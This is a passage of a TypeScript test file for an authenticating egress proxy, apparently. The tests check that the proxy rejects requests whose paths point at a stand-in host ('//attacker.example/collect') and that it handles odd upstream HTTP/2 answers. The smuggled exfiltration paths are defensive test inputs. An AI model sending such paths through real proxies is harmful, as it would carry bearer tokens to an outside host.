    const headers = { authorization: `Bearer ${PLACEHOLDER}` };
    for (const path of ["//attacker.example/collect", "/\\attacker.example/collect"]) {
      const h1 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
      expect((await http1Request(h1, { path, host: "api.test", headers })).status).toBe(400);
      h1.destroy();
      const h2 = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
      expect((await http2Request(h2, { path, authority: "api.test", headers })).status).toBe(400);
      h2.destroy();
    }
    expect(seen.length).toBe(from);
    const denied = decisions.filter((d) => d.action === "denied");
    expect(denied).toHaveLength(4);
    expect(denied[0]?.reason).toBe(
      'only origin-form request targets (/path, not //path) are forwarded to api.test, not "//attacker.example/collect"',
    );
    const ok = await tunnel(socketPath, "api.test:443", trustRunCa("api.test"));
    expect((await http1Request(ok, { path: "/a//b", host: "api.test", headers })).status).toBe(200);
    ok.destroy();
    expect(seen.at(-1)).toMatchObject({ method: "GET", path: "/a//b" });
  });

  it("an upstream answer HTTP/2 cannot carry becomes a 502 (status 999) or loses the header (HTTP2-Settings, Connection-named), and the proxy lives on", async () => {
    const { socketPath, decisions } = await start({ upstreamPort: rawPort });
    const socket = await tunnel(socketPath, "api.test:443", trustRunCa("api.test", ["h2"]));
    const session = http2.connect("https://api.test", { createConnection: () => socket });
    const ask = (path: string) =>
      new Promise<Answer>((resolve, reject) => {
        const stream = session.request({ ":path": path, authorization: `Bearer ${PLACEHOLDER}` });
        stream.on("response", (h) => {
          const chunks: Buffer[] = [];
          stream.on("data", (c: Buffer) => chunks.push(c));
          stream.on("end", () =>
            resolve({ status: Number(h[":status"]), headers: h, body: Buffer.concat(chunks).toString() }),
          );
        });
        stream.on("error", reject);
        stream.end();
      });
    const status = await ask("/status-999");
    expect(status.status).toBe(502);
    expect(status.body).toContain("the upstream answered with status 999");
    const settings = await ask("/http2-settings");
    expect([settings.status, settings.body, settings.headers["http2-settings"]]).toEqual([200, "ok", undefined]);
    const named = await ask("/connection-named");
    expect([named.status, named.headers["x-hop"]]).toEqual([200, undefined]);
    // More codings than the proxy undoes to scrub (MAX_CODING_LAYERS: review, session 44).
    const layered = await ask("/five-codings");
    expect([layered.status, layered.body]).toEqual([
      502,
      expect.stringContaining("answered with 5 codings, more than the 4"),
    ]);
    session.close();
    expect(decisions.filter((d) => d.action === "failed")).toEqual([
      expect.objectContaining({
        host: "api.test",
        reason: "the upstream answered with status 999, which is not relayed",
      }),
      expect.objectContaining({ host: "api.test", reason: expect.stringContaining("answered with 5 codings") }),
    ]);
  });
});
